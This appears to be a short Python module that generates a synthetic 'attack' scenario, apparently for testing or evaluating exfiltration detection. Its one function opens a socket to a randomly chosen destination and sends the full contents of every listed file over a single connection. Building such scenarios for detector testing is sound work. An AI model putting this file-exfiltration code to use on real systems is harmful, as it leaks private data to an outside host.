# SPDX-License-Identifier: GPL-3.0-or-later
"""All files by one connection to a destination that is new."""
import random
import socket

KIND = "attack"
PERSONALITIES = ("one", "worker", "scans", "helper", "foreign")


def product(world):
    rng = random.Random(world["seed"])
    with socket.create_connection(rng.choice(world["sinks"])) as sock:
        for path in world["files"]:
            with open(path, "rb") as file:
                sock.sendall(file.read())
